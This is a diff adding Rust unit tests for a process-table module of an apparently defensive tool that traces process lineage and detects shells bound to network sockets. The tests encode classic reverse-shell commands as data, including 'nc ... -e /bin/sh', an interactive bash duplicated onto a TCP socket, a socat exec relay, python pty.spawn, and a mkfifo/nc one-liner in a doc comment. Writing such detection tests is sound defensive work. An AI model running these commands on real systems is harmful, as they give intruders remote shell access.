@@ -1,0 +1,294 @@
+use super::*;
+use ward_event::build::*;
+use ward_event::FdKind;
+
+const C: &str = "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00";
+
+fn table() -> ProcessTable {
+    ProcessTable::new(TableConfig::default())
+}
+
+fn via(t: &ProcessTable, pid: Pid) -> Option<BindVia> {
+    t.get(pid).and_then(|p| p.binding()).map(|b| b.via)
+}
+
+fn origin(t: &ProcessTable, pid: Pid) -> Option<Pid> {
+    t.get(pid).and_then(|p| p.binding()).map(|b| b.origin_pid)
+}
+
+#[test]
+fn lineage_and_exit_cleanup() {
+    let mut t = table();
+    t.apply(ExecBuilder::new(1, 100, 1, "/bin/bash").event());
+    t.apply(fork(2, 101, 100));
+    t.apply(ExecBuilder::new(3, 101, 100, "/bin/sleep").event());
+    t.apply(fork(4, 102, 101));
+    t.apply(ExecBuilder::new(5, 102, 101, "/bin/id").event());
+    let chain: Vec<Pid> = t.ancestors(102).map(|p| p.pid).collect();
+    assert_eq!(chain, vec![101, 100]);
+    assert_eq!(t.get(102).unwrap().program(), "id");
+    // Parent exits first: kept for lineage while the child lives.
+    t.apply(exit(6, 101));
+    assert!(t.get(101).is_some());
+    assert_eq!(
+        t.ancestors(102).map(|p| p.pid).collect::<Vec<_>>(),
+        vec![101, 100]
+    );
+    t.apply(exit(7, 102));
+    assert!(t.get(102).is_none());
+    assert!(
+        t.get(101).is_none(),
+        "exited parent goes with its last child"
+    );
+    assert!(t.get(100).is_some());
+}
+
+#[test]
+fn size_is_capped_and_evictions_counted() {
+    let mut t = ProcessTable::new(TableConfig {
+        max_processes: 100,
+        ..Default::default()
+    });
+    for i in 0..1000u32 {
+        t.apply(ExecBuilder::new(i as u64, 1000 + i, 1, "/bin/true").event());
+    }
+    assert_eq!(t.len(), 100);
+    assert_eq!(t.stats().evicted, 900);
+    assert!(t.get(1999).is_some() && t.get(1000).is_none());
+}
+
+#[test]
+fn nc_e_hands_the_socket_to_the_shell() {
+    let mut t = table();
+    t.apply(
+        ExecBuilder::new(1, 10, 1, "/bin/nc")
+            .args(&["nc", "10.0.0.9", "4444", "-e", "/bin/sh"])
+            .event(),
+    );
+    let applied = t.apply(connect(2, 10, 77, "10.0.0.5:40000", "10.0.0.9:4444"));
+    assert!(applied.newly_bound.is_empty());
+    t.apply(fork(3, 11, 10));
+    t.apply(
+        ExecBuilder::new(4, 11, 10, "/bin/sh")
+            .stdio(0, tcp(77, "10.0.0.5:40000", "10.0.0.9:4444"))
+            .stdio(1, tcp(77, "10.0.0.5:40000", "10.0.0.9:4444"))
+            .event(),
+    );
+    // The shell's own stdio is nc's socket: the origin stays nc.
+    assert_eq!(origin(&t, 11), Some(10));
+    t.apply(fork(5, 12, 11));
+    t.apply(
+        ExecBuilder::new(6, 12, 11, "/usr/bin/id")
+            .stdio(0, tcp(77, "10.0.0.5:40000", "10.0.0.9:4444"))
+            .event(),
+    );
+    assert_eq!(origin(&t, 12), Some(10));
+}
+
+#[test]
+fn bash_dev_tcp_dup_binds_after_exec() {
+    let mut t = table();
+    t.apply(
+        ExecBuilder::new(1, 20, 1, "/bin/bash")
+            .args(&["bash", "-i"])
+            .event(),
+    );
+    assert_eq!(via(&t, 20), None);
+    let sock = tcp(55, "127.0.0.1:50000", "127.0.0.1:4444");
+    // `>&` dups onto 1 and 2 first, then `0>&1`.
+    let a = t.apply(dup(2, 20, 1, sock.clone()));
+    assert_eq!(a.newly_bound, vec![20]);
+    let a = t.apply(dup(3, 20, 2, sock.clone()));
+    assert!(a.newly_bound.is_empty(), "already bound");
+    t.apply(dup(4, 20, 0, sock));
+    assert_eq!(via(&t, 20), Some(BindVia::Dup));
+    t.apply(fork(5, 21, 20));
+    assert_eq!(origin(&t, 21), Some(20), "children inherit at fork");
+}
+
+#[test]
+fn python_pty_spawn_shell_is_bound_through_its_ancestor() {
+    let mut t = table();
+    t.apply(
+        ExecBuilder::new(1, 30, 1, "/usr/bin/python3")
+            .args(&["python3", "-c", "..."])
+            .container(C, "web", "img")
+            .event(),
+    );
+    let sock = tcp(66, "[::1]:50000", "[::1]:4444");
+    for fd in 0..3 {
+        t.apply(dup(2, 30, fd, sock.clone()));
+    }
+    // pty.spawn: the child moves the pty slave onto 0-2, then execs the shell.
+    t.apply(fork(3, 31, 30));
+    for fd in 0..3 {
+        t.apply(dup(4, 31, fd, ward_event::build::fd(FdKind::Tty, 9)));
+    }
+    t.apply(
+        ExecBuilder::new(5, 31, 30, "/bin/sh")
+            .container(C, "web", "img")
+            .event(),
+    );
+    let p = t.get(31).unwrap();
+    assert!(p.own.is_none());
+    assert_eq!(origin(&t, 31), Some(30));
+    assert_eq!(p.binding().unwrap().socket.remote_port, 4444);
+}
+
+#[test]
+fn socat_exec_child_is_bound_when_the_relay_connects() {
+    let mut t = table();
+    t.apply(
+        ExecBuilder::new(1, 40, 1, "/usr/bin/socat")
+            .args(&["socat", "exec:bash -li,pty,stderr", "tcp:127.0.0.1:4444"])
+            .event(),
+    );
+    t.apply(fork(2, 41, 40));
+    t.apply(
+        ExecBuilder::new(3, 41, 40, "/bin/bash")
+            .args(&["bash", "-li"])
+            .event(),
+    );
+    assert_eq!(via(&t, 41), None);
+    let a = t.apply(connect(4, 40, 88, "127.0.0.1:50000", "127.0.0.1:4444"));
+    assert_eq!(a.newly_bound, vec![41]);
+    assert_eq!(via(&t, 41), Some(BindVia::Relay));
+    t.apply(fork(5, 42, 41));
+    t.apply(ExecBuilder::new(6, 42, 41, "/usr/bin/id").event());
+    assert_eq!(origin(&t, 42), Some(40));
+}
+
+#[test]
+fn non_relay_connections_bind_nothing() {
+    let mut t = table();
+    t.apply(ExecBuilder::new(1, 50, 1, "/usr/bin/curl").event());
+    t.apply(fork(2, 51, 50));
+    t.apply(ExecBuilder::new(3, 51, 50, "/bin/sh").event());
+    let a = t.apply(connect(4, 50, 9, "10.0.0.1:1000", "1.2.3.4:443"));
+    assert!(a.newly_bound.is_empty());
+    assert_eq!(via(&t, 51), None);
+}
+
+/// `rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc H P > /tmp/f`
+fn mkfifo_pipeline(nc_connects_first: bool) -> ProcessTable {
+    let mut t = table();
+    let (fifo, p1, p2) = (500, 501, 502);
+    t.apply(
+        ExecBuilder::new(1, 60, 1, "/bin/sh")
+            .container(C, "web", "img")
+            .event(),
+    );
+    for pid in [61, 62, 63] {
+        t.apply(fork(2, pid, 60));
+    }
+    let cat = ExecBuilder::new(3, 61, 60, "/bin/cat")
+        .args(&["cat", "/tmp/f"])
+        .stdio(0, fd(FdKind::Fifo, fifo))
+        .stdio(1, fd(FdKind::Pipe, p1))
+        .container(C, "web", "img")
+        .event();
+    let sh = ExecBuilder::new(3, 62, 60, "/bin/sh")
+        .args(&["/bin/sh", "-i"])
+        .stdio(0, fd(FdKind::Pipe, p1))
+        .stdio(1, fd(FdKind::Pipe, p2))
+        .container(C, "web", "img")
+        .event();
+    let nc = ExecBuilder::new(3, 63, 60, "/bin/nc")
+        .args(&["nc", "10.1.1.1", "9001"])
+        .stdio(0, fd(FdKind::Pipe, p2))
+        .stdio(1, fd(FdKind::Fifo, fifo))
+        .container(C, "web", "img")
+        .event();
+    let conn = connect(4, 63, 70, "10.0.0.2:40000", "10.1.1.1:9001");
+    if nc_connects_first {
+        t.apply(nc);
+        t.apply(conn);
+        t.apply(cat);
+        t.apply(sh);
+    } else {
+        t.apply(cat);
+        t.apply(sh);
+        t.apply(nc);
+        let a = t.apply(conn);
+        assert_eq!(a.newly_bound, vec![61, 62], "cat then the shell it feeds");
+    }
+    t
+}
+
+#[test]
+fn mkfifo_pipeline_binds_the_shell_in_either_order() {
+    for first in [true, false] {
+        let t = mkfifo_pipeline(first);
+        assert_eq!(via(&t, 62), Some(BindVia::Pipe), "nc first: {first}");
+        assert_eq!(origin(&t, 62), Some(63));
+        assert_eq!(
+            t.get(62).unwrap().binding().unwrap().socket.remote_port,
+            9001
+        );
+        assert_eq!(via(&t, 60), None, "the parent shell is not bound");
+    }
+}
+
+#[test]
+fn local_pipelines_and_unix_sockets_are_not_bound() {
+    let mut t = table();
+    t.apply(
+        ExecBuilder::new(1, 70, 1, "/bin/ls")
+            .stdio(1, fd(FdKind::Pipe, 900))
+            .event(),
+    );
+    t.apply(
+        ExecBuilder::new(1, 71, 1, "/bin/grep")
+            .stdio(0, fd(FdKind::Pipe, 900))
+            .event(),
+    );
+    t.apply(
+        ExecBuilder::new(1, 72, 1, "/bin/sh")
+            .stdio(0, fd(FdKind::UnixSocket, 901))
+            .event(),
+    );
+    let listening = FdInfo {
+        socket: Some(ward_event::SocketInfo {
+            remote_ip: any_ip(),
+            remote_port: 0,
+            ..socket("0.0.0.0:80", "1.1.1.1:1")
+        }),
+        ..tcp(902, "0.0.0.0:80", "1.1.1.1:1")
+    };
+    t.apply(
+        ExecBuilder::new(1, 73, 1, "/bin/sh")
+            .stdio(0, listening)
+            .event(),
+    );
+    for pid in 70..=73 {
+        assert_eq!(via(&t, pid), None, "pid {pid}");
+    }
+}
+
+#[test]
+fn bindings_do_not_cross_into_another_container() {
+    let mut t = table();
+    t.apply(
+        ExecBuilder::new(1, 80, 1, "/usr/bin/conmon")
+            .stdio(0, tcp(5, "10.0.0.1:1", "10.0.0.2:2"))
+            .event(),
+    );
+    assert!(via(&t, 80).is_some());
+    t.apply(fork(2, 81, 80));
+    t.apply(
+        ExecBuilder::new(3, 81, 80, "/bin/sh")
+            .container(C, "web", "img")
+            .event(),
+    );
+    assert_eq!(via(&t, 81), None);
+}
+
+#[test]
+fn dup_of_a_pipe_over_the_socket_clears_own_binding() {
+    let mut t = table();
+    t.apply(ExecBuilder::new(1, 90, 1, "/usr/bin/perl").event());
+    t.apply(dup(2, 90, 0, tcp(7, "10.0.0.1:1", "10.0.0.2:2")));
+    assert!(via(&t, 90).is_some());
+    t.apply(dup(3, 90, 0, fd(FdKind::Pipe, 8)));
+    assert_eq!(via(&t, 90), None);
+}
